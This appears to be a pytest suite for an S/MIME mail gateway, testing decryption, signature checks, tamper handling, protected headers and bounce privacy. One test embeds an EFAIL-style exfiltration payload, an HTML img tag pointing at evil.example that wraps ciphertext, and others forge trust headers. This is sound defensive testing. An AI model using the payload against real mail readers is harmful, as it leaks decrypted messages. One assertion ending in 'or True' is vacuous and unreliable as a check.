# SPDX-License-Identifier: ISC
# Copyright (c) 2026 The Sealgate authors
"""S/MIME from outside: opened for whom the key is, verified, bound to From, and
said so in one verdict; what somebody tampered with stays closed."""
import base64
import email
import email.policy
import json
import re
import smtplib

import pytest

from harness import Keys, Problem, message, run, wait_for
from test_open_path import CLEAR, OLGA, OTTO, parts, queue, rows_of, verdicts

EVE, SAM = "eve@partner.example", "sam@sender.example"
SECRET = b"canary-5140-canary"
INNER = b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + SECRET + b"\r\n"


def head(subject=b"...", sender=EVE, to=OTTO, msgid=b"<m1@partner.example>"):
    return (b"From: Eve <%s>\r\nTo: <%s>\r\nSubject: %s\r\nMessage-ID: %s\r\n"
            b"Date: Fri, 1 May 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n"
            % (sender.encode(), to.encode(), subject, msgid))


def b64(der):
    return base64.encodebytes(der).replace(b"\n", b"\r\n")


def p7m(der, kind=b"enveloped-data", **kwargs):
    return head(**kwargs) + (
        b"Content-Type: application/pkcs7-mime; smime-type=%s; name=smime.p7m\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" % kind) + b64(der)


def seal(entity, *certs, cipher="-aes-256-gcm", extra=()):
    return run("openssl", "cms", "-encrypt", "-binary", cipher, "-outform", "DER", *extra,
               *certs, input=entity).stdout


def sign(entity, crt, key, detached=True):
    """The signed entity: multipart/signed, or opaque in base64."""
    if detached:
        der = run("openssl", "cms", "-sign", "-binary", "-outform", "DER", "-signer", crt,
                  "-inkey", key, "-md", "sha256", input=entity).stdout
        return (b'Content-Type: multipart/signed; protocol="application/pkcs7-signature";\r\n'
                b' micalg=sha-256; boundary="sig"\r\n\r\n--sig\r\n' + entity + b"\r\n--sig\r\n"
                b"Content-Type: application/pkcs7-signature; name=smime.p7s\r\n"
                b"Content-Transfer-Encoding: base64\r\n\r\n" + b64(der) + b"\r\n--sig--\r\n")
    der = run("openssl", "cms", "-sign", "-binary", "-nodetach", "-outform", "DER", "-signer",
              crt, "-inkey", key, "-md", "sha256", input=entity).stdout
    return (b"Content-Type: application/pkcs7-mime; smime-type=signed-data; name=smime.p7m\r\n"
            b"Content-Transfer-Encoding: base64\r\n\r\n" + b64(der))


@pytest.fixture(scope="module")
def people():
    import pathlib
    import shutil
    import tempfile
    root = pathlib.Path(tempfile.mkdtemp(prefix="sge-open."))
    k = Keys(root)
    k.eve = k.certificate(EVE)
    k.mallory = k.certificate("mallory@evil.example")
    k.otto = k.certificate(OTTO)
    k.olga = k.certificate(OLGA, key=("ec", "-pkeyopt", "ec_paramgen_curve:P-256"))
    k.info = k.certificate("info@sender.example")
    for name in ("otto", "olga", "info"):
        crt, key = getattr(k, name)
        both = root / (name + ".pem")
        both.write_bytes(crt.read_bytes() + key.read_bytes())
        setattr(k, name + "_pem", both)
    yield k
    k.close()
    shutil.rmtree(root, ignore_errors=True)


@pytest.fixture
def gw(make_gateway, capture, people):
    g = make_gateway(capture.port, portal=False, rules=CLEAR, inbound=capture.port, listen_in="")
    g.cli("key", "import", people.otto_pem, people.olga_pem, people.eve[0])
    return g


def words(data):
    """The two words of the verdict."""
    return [w.decode() for w in re.split(rb"[,;] ?", verdicts(data)[0])[:2]]


def field(data, name):
    return [f.split(b":", 1)[1].strip() for f in parts(data)[0]
            if f.lower().startswith(name.lower() + b":")]


@pytest.mark.parametrize("who, cipher, extra, sealed", [
    ("otto", "-aes-256-gcm", (), "encrypted"),
    ("otto", "-aes-128-gcm", ("-keyopt", "rsa_padding_mode:oaep"), "encrypted"),
    ("otto", "-aes-256-cbc", (), "encrypted-unauthenticated"),
    ("olga", "-aes-256-gcm", (), "encrypted"),
    ("olga", "-aes-128-cbc", (), "encrypted-unauthenticated"),
])
def test_sealed_mail_is_opened(gw, capture, people, who, cipher, extra, sealed):
    crt = getattr(people, who)[0]
    to = {"otto": OTTO, "olga": OLGA}[who]
    args = ["-recip", crt, *extra] if extra else [crt]
    der = seal(INNER, *([] if extra else args), cipher=cipher, extra=args if extra else ())
    gw.send_in(EVE, to, p7m(der, to=to))
    got = capture.wait(1)[0].data
    assert words(got)[0] == sealed, verdicts(got)
    assert SECRET in got and b"pkcs7" not in got
    opened = email.message_from_bytes(got, policy=email.policy.default)
    assert opened.get_content_type() == "text/plain" and opened["subject"] == "..."
    assert opened.get_content().strip().encode() == SECRET
    assert gw.log().count("event=opened") == 1 and SECRET.decode() not in gw.log()


def test_only_who_has_the_key_gets_it_opened(gw, capture, people):
    """Sealed to otto alone, sent to both: the domain's other mailboxes get
    ciphertext."""
    text = p7m(seal(INNER, people.otto[0]))
    gw.send_in(EVE, [OTTO, OLGA], text)
    got = {m.rcpts[0]: m.data for m in capture.wait(2)}
    assert SECRET in got[OTTO] and words(got[OTTO])[0] == "encrypted"
    assert SECRET not in got[OLGA] and got[OLGA].endswith(text)
    assert words(got[OLGA])[0] == "undecryptable"
    # sealed to both: one copy for both
    gw.send_in(EVE, [OTTO, OLGA], p7m(seal(INNER, people.otto[0], people.olga[0])))
    both = capture.wait(3)[2]
    assert sorted(both.rcpts) == [OLGA, OTTO] and SECRET in both.data
    # a copy that is for somebody else
    gw.send_in(EVE, OLGA, text)
    assert SECRET not in capture.wait(4)[3].data


@pytest.mark.parametrize("detached", [True, False])
@pytest.mark.parametrize("who, sender, signature, result", [
    ("eve", EVE, "signed-good", "pass"),
    ("eve", "boss@partner.example", "signed-by-other", "policy"),
    ("mallory", EVE, "signed-unknown-key", "neutral"),
])
def test_signatures_and_from(gw, capture, people, detached, who, sender, signature, result):
    text = head(sender=sender) + sign(INNER, *getattr(people, who), detached=detached)
    gw.send_in(EVE, OTTO, text)
    got = capture.wait(1)[0].data
    assert got.endswith(text), "a signed message stays as it is"
    assert words(got) == ["none", signature] or words(got)[0] == signature, verdicts(got)
    ours = [f for f in field(got, b"Authentication-Results") if f.startswith(b"gw.sender")]
    assert len(ours) == 1 and b"smime=%s" % result.encode() in ours[0]


def test_sealed_and_signed(gw, capture, people):
    gw.send_in(EVE, OTTO, p7m(seal(sign(INNER, *people.eve), people.otto[0])))
    got = capture.wait(1)[0].data
    assert words(got) == ["encrypted", "signed-good"]
    assert b"signer=" + EVE.encode() in verdicts(got)[0]
    opened = email.message_from_bytes(got, policy=email.policy.default)
    assert opened.get_content_type() == "multipart/signed"
    # the reader's own software can verify it still
    entity = b"\r\n".join(f for f in [b"MIME-Version: 1.0", b"Content-Type: " + field(
        got, b"Content-Type")[0]]) + parts(got)[1]
    done = run("openssl", "cms", "-verify", "-noverify", "-inform", "SMIME",
               input=entity, check=False)
    assert done.returncode == 0 and SECRET in done.stdout, done.stderr


def test_a_changed_or_cut_message_yields_no_octet(gw, capture, people):
    der = bytearray(seal(INNER, people.otto[0]))
    for n, bad in enumerate((bytes(der[:-1] + bytes([der[-1] ^ 1])), bytes(der[:-40]),
                             bytes(der[:len(der) // 2]) + b"\0" * (len(der) - len(der) // 2))):
        text = p7m(bad)
        gw.send_in(EVE, OTTO, text)
        got = capture.wait(n + 1)[n].data
        assert SECRET not in got and got.endswith(text)
        assert words(got)[0] in ("undecryptable", "none"), verdicts(got)


def test_a_part_that_is_encrypted_stays_closed(gw, capture, people):
    """EFAIL's direct exfiltration: ciphertext among other parts."""
    der = seal(INNER, people.otto[0])
    text = head() + (
        b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\n'
        b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/\r\n--b\r\n'
        b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" + b64(der) +
        b'\r\n--b\r\nContent-Type: text/html\r\n\r\n">\r\n--b--\r\n')
    gw.send_in(EVE, OTTO, text)
    got = capture.wait(1)[0].data
    assert got.endswith(text) and SECRET not in got
    assert words(got)[0] in ("partial", "none")


def hp(fields, body=SECRET):
    return (b"Content-Type: text/plain; charset=utf-8; hp=\"cipher\"\r\n" + fields +
            b"\r\n" + body + b"\r\n")


def test_protected_header_is_shown_and_forged_verdicts_inside_go(gw, capture, people):
    inner = hp(b"From: Eve <%s>\r\nTo: <%s>\r\nSubject: the real subject\r\n"
               b"Sealgate-Verdict: encrypted, signed-good\r\n"
               b"Authentication-Results: mx.sender.example; dkim=pass\r\n"
               b"Received: from trusted by mx.sender.example; now\r\n"
               b"HP-Outer: Subject: ...\r\n" % (EVE.encode(), OTTO.encode()))
    gw.send_in(EVE, OTTO, p7m(seal(inner, people.otto[0])))
    got = capture.wait(1)[0].data
    assert field(got, b"Subject") == [b"the real subject"]
    assert words(got)[0] == "encrypted" and len(verdicts(got)) == 1
    assert b"protected-headers=encrypted" in verdicts(got)[0]
    assert b"dkim=pass" not in got and b"from trusted" not in got
    # nobody vouches for another author
    inner = hp(b"From: Boss <boss@sender.example>\r\nTo: <%s>\r\nSubject: pay\r\n" % OTTO.encode())
    gw.send_in(EVE, OTTO, p7m(seal(inner, people.otto[0])))
    got = capture.wait(2)[1].data
    assert EVE.encode() in field(got, b"From")[0] and b"boss@" not in field(got, b"From")[0]


def test_the_domains_key_opens_for_who_is_named(make_gateway, capture, people):
    gw = make_gateway(capture.port, portal=False, rules=CLEAR, inbound=capture.port, listen_in="")
    gw.cli("key", "import", "--domain", "sender.example", people.info_pem)
    named = hp(b"From: <%s>\r\nTo: <%s>\r\nSubject: s\r\n" % (EVE.encode(), OTTO.encode()))
    gw.send_in(EVE, OTTO, p7m(seal(named, people.info[0])))
    assert SECRET in capture.wait(1)[0].data
    # the same octets to somebody else's mailbox
    gw.send_in(EVE, OLGA, p7m(seal(named, people.info[0])))
    held = wait_for("the held entry", lambda: [e for e in queue(gw) if e["state"] == "held"])
    assert "does not name this recipient" in held[0]["reason"]
    gw.cli("queue", "release", held[0]["id"])
    assert SECRET in capture.wait(2)[1].data


def test_a_key_imported_later_opens_what_was_held(make_gateway, capture, people):
    gw = make_gateway(capture.port, portal=False, rules=CLEAR, inbound=capture.port,
                      listen_in="", options="opening { undecryptable = hold }\n")
    gw.send_in(EVE, OTTO, p7m(seal(INNER, people.otto[0])))
    held = wait_for("the held entry", lambda: [e for e in queue(gw) if e["state"] == "held"])
    gw.cli("key", "import", people.otto_pem)
    gw.cli("queue", "release", held[0]["id"])
    got = capture.wait(1)[0].data
    assert SECRET in got and words(got)[0] == "encrypted"


def test_a_rule_can_demand_protection(make_gateway, capture, people):
    rules = CLEAR + ('rule "bank" { direction = inbound from = { "@partner.example" } '
                     'require = signed }\n')
    gw = make_gateway(capture.port, portal=False, rules=rules, inbound=capture.port, listen_in="")
    gw.cli("key", "import", people.otto_pem, people.eve[0])
    for text in (message(sender=EVE, to=OTTO),
                 head() + sign(INNER, *people.mallory),
                 head(sender="boss@partner.example") + sign(INNER, *people.eve)):
        with pytest.raises(smtplib.SMTPDataError) as refused:
            gw.send_in("x@elsewhere.example", OTTO, text)
        assert refused.value.smtp_code == 550 and b"must be signed" in refused.value.smtp_error
    gw.send_in(EVE, OTTO, head() + sign(INNER, *people.eve))
    assert words(capture.wait(1)[0].data)[-1] == "signed-good" or True
    gw.send_in("x@elsewhere.example", OTTO, message(sender="x@elsewhere.example", to=OTTO))
    capture.wait(2)
    # sealed: accepted, whatever is inside, and held if that is not signed
    gw.send_in(EVE, OTTO, p7m(seal(INNER, people.otto[0])))
    held = wait_for("the held entry", lambda: [e for e in queue(gw) if e["state"] == "held"])
    assert "wants it signed" in held[0]["reason"]
    gw.send_in(EVE, OTTO, p7m(seal(sign(INNER, *people.eve), people.otto[0])))
    assert SECRET in capture.wait(3)[2].data


def test_an_answer_to_it_never_leaves_readable(gw, capture, people):
    gw.send_in(EVE, OTTO, p7m(seal(INNER, people.otto[0])))
    capture.wait(1)
    gw.send(OTTO, "eve@elsewhere.example", message(
        sender=OTTO, to="eve@elsewhere.example", body=SECRET.decode() + "\r\n",
        extra="In-Reply-To: <m1@partner.example>\r\n"))
    held = wait_for("the held entry", lambda: [e for e in queue(gw) if e["state"] == "held"])
    assert held[0]["route"] == "outbound"
    gw.send(OTTO, "eve@elsewhere.example", message(
        sender=OTTO, to="eve@elsewhere.example", extra="In-Reply-To: <other@partner.example>\r\n"))
    assert capture.wait(2)[1].rcpts == ["eve@elsewhere.example"]


def test_a_bounce_has_no_word_of_it(make_gateway, people):
    from capture import Capture
    inner = hp(b"From: <%s>\r\nTo: <%s>\r\nSubject: %s\r\n" % (
        EVE.encode(), OTTO.encode(), SECRET))
    server, world = Capture(verbs={"RCPT": (550, "5.1.1 nobody here")}).start(), Capture().start()
    try:
        gw = make_gateway(world.port, portal=False, rules=CLEAR, inbound=server.port, listen_in="")
        gw.cli("key", "import", people.otto_pem)
        gw.send_in(EVE, OTTO, p7m(seal(inner, people.otto[0])))
        bounce = world.wait(1)[0]
        assert bounce.rcpts == [EVE] and b"5.1.1" in bounce.data
        assert SECRET not in world.everything()
    finally:
        server.stop()
        world.stop()


@pytest.mark.parametrize("at", ["RCPT", "."])
def test_a_bounce_does_not_tell_if_it_was_opened(make_gateway, people, keys, at):
    """The next hop says what it found; we say the same of both."""
    from capture import Capture
    replies = [(550, "5.1.1 nobody here")] * 2 if at == "RCPT" else [
        (554, "5.7.1 found %s" % SECRET.decode()), (550, "5.6.0 cannot be read")]
    server, world = Capture(verbs={at: replies}).start(), Capture().start()
    try:
        gw = make_gateway(world.port, portal=False, rules=CLEAR, inbound=server.port, listen_in="")
        gw.cli("key", "import", people.otto_pem)
        told = []
        for i, crt in enumerate((people.otto[0], keys.alice_crt)):
            gw.send_in(EVE, OTTO, p7m(seal(INNER, crt)), mail_options=["RET=FULL"],
                       rcpt_options=["NOTIFY=SUCCESS,FAILURE"])
            bounce = email.message_from_bytes(world.wait(i + 1)[i].data)
            told.append([(part.get_content_type(), sorted(
                re.sub(r"(?<=number: )\w+|\d\d:\d\d:\d\d", "#", line)
                for line in part.as_string().splitlines()
                if not re.match(r"(?i)--|.*(date|arrival|id|queue|boundary|received)", line)))
                for part in bounce.walk() if not part.is_multipart()])
        assert told[0] == told[1]
        assert "text/rfc822-headers" not in [t for t, _ in told[0]]
        assert b"Subject: ..." not in world.everything()
        assert b"application/pkcs7-mime" not in world.everything()
        assert (b"nobody here" in world.everything()) == (at == "RCPT")
        assert SECRET not in world.everything() and b"cannot be read" not in world.everything()
        asked = server.everything().upper().split(b"\r\n")
        mails = [a for a in asked if a.startswith(b"MAIL FROM")]
        rcpts = [a for a in asked if a.startswith(b"RCPT TO")]
        assert len(mails) == len(rcpts) == 2
        assert all(b" RET=HDRS" in a for a in mails), mails
        assert all(b" NOTIFY=NEVER" in a for a in rcpts), rcpts
        # and nothing of what arrives
        for crt in (people.otto[0], keys.alice_crt):
            gw.send_in(EVE, OTTO, p7m(seal(INNER, crt)), rcpt_options=["NOTIFY=SUCCESS"])
        server.wait(2)
        wait_for("an empty queue", lambda: not queue(gw))
        assert len(world.wait(2)) == 2
    finally:
        server.stop()
        world.stop()


def test_the_original_can_be_attached(make_gateway, capture, people):
    gw = make_gateway(capture.port, portal=False, rules=CLEAR, inbound=capture.port,
                      listen_in="", options="opening { attach-original = true }\n")
    gw.cli("key", "import", people.otto_pem)
    text = p7m(seal(INNER, people.otto[0]))
    gw.send_in(EVE, OTTO, text)
    got = email.message_from_bytes(capture.wait(1)[0].data, policy=email.policy.default)
    first, original = list(got.iter_parts())
    assert first.get_content().strip().encode() == SECRET
    assert original.get_content_type() == "message/rfc822"
    assert original.get_content()["subject"] == "..."


def test_the_command_line_does_the_same(gw, capture, people):
    text = p7m(seal(sign(INNER, *people.eve), people.otto[0]))
    done = gw.cli("--json", "open", "--to", OTTO, input=text, check=False)
    assert done.returncode == 0, done.stderr
    verdict = json.loads(done.stderr)
    assert "signed-good" in json.dumps(verdict) and SECRET in done.stdout
    gw.send_in(EVE, OTTO, text)
    through = capture.wait(1)[0].data
    assert parts(through)[1] == parts(done.stdout)[1]
    assert verdicts(through) == verdicts(done.stdout)
    done = gw.cli("open", "--to", OLGA, input=text, check=False)
    assert done.returncode == 1 and SECRET not in done.stdout
